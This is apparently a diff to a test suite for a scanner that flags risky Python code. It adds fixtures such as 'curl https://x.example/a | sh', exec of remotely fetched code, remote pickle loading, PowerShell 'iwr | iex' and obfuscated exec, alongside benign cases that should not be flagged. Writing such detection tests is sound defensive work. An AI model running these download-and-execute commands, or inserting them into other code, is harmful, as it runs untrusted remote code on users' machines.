@@ -77,6 +77,28 @@ describe('flags', () => {
       'downloaded-program',
       'import os, urllib.request\nurllib.request.urlretrieve(u, p)\nos.system("chmod +x " + p)',
     ],
+    ['download-command', 'import posix\nposix.system("curl https://x.example/a | sh")'],
+    ['download-command', 'import os\nos.execvp("sh", ["sh", "-c", "curl https://x.example/a | sh"])'],
+    [
+      'download-command',
+      'import os\nos.spawnlp(os.P_WAIT, "sh", "sh", "-c", "curl https://x.example/a | sh")',
+    ],
+    ['download-command', 'import os\nos.system(" ".join(["curl", u, "|", "sh"]))'],
+    ['download-command', 'import os\nos.system("curl {} | sh".format(u))'],
+    [
+      'hidden-command',
+      'import sys, subprocess, requests\nsubprocess.run([sys.executable, "-c", requests.get(u).text])',
+    ],
+    ['remote-code', 'import subprocess\nexec(subprocess.check_output(["curl", "-s", u]))'],
+    ['remote-code', 'import os\nexec(os.popen("curl -s https://x.example/a").read())'],
+    ['remote-code', 'import code, requests\ncode.InteractiveInterpreter().runsource(requests.get(u).text)'],
+    [
+      'remote-code',
+      'import requests, types\ntypes.FunctionType(compile(requests.get(u).text, "x", "exec"), {})()',
+    ],
+    ['remote-pickle', 'import pandas\npandas.read_pickle("https://x.example/a.pkl")'],
+    ['obfuscated-code', 'from pyarmor_runtime import __pyarmor__\n__pyarmor__(__name__, __file__, b"PY")'],
+    ['obfuscated-code', 'exec("\\x70\\x72\\x69\\x6e\\x74")'],
     ['hidden-command', 'import os, base64\nos.system(base64.b64decode("bHM=").decode())'],
   ])('%s: %s', async (rule, source) => {
     const { findings } = await codeOf({ 'a.py': source });
@@ -177,6 +199,13 @@ describe('mentions, but does not flag,', () => {
     ['dynamic-code', 'import requests\na, b = requests, "1"\neval(b)'],
     ['dynamic-code', 'import builtins\ngetattr(builtins, "ex" + "ec")(code)'],
     ['subprocess', 'import asyncio, subprocess\nasyncio.to_thread(subprocess.run, ["ffmpeg"])'],
+    ['pickle', 'import pandas\npandas.read_pickle("cache.pkl")'],
+    ['dynamic-code', 'import sys\nsys.excepthook = exec'],
+    [
+      'subprocess',
+      'import subprocess\nsubprocess.run("curl -o model.bin https://x.example/m && ls -l", shell=True)',
+    ],
+    ['subprocess', 'import subprocess\nsubprocess.run(["bash", "-c", "echo $(date)"])'],
     ['pickle', 'import pickle\npickle.load(open("cache.pkl", "rb"))'],
     [
       'runtime-install',
@@ -215,6 +244,18 @@ it('runs a downloaded picture through ffmpeg without a flag, for the picture is 
   const source =
     'import urllib.request, subprocess\ndef go():\n  urllib.request.urlretrieve(u, picture)\n  subprocess.run(["ffmpeg", "-i", picture])';
   expect(await rulesOf(source)).toEqual(['subprocess']);
+});
+
+it.each([
+  'bash <(curl -s https://x.example/a)',
+  'bash -c "$(curl -fsSL https://x.example/a)"',
+  'eval $(curl https://x.example/a)',
+  'curl https://x.example/a -o /tmp/a; sh /tmp/a',
+  'curl -o /tmp/a https://x.example/a && chmod +x /tmp/a && /tmp/a',
+  'powershell iwr https://x.example/a | iex',
+  'pwsh -EncodedCommand AAAA',
+])('flags the command %s', async (command) => {
+  expect(await rulesOf(`import os\nos.system(${JSON.stringify(command)})`)).toEqual(['download-command']);
 });
 
 it.each([
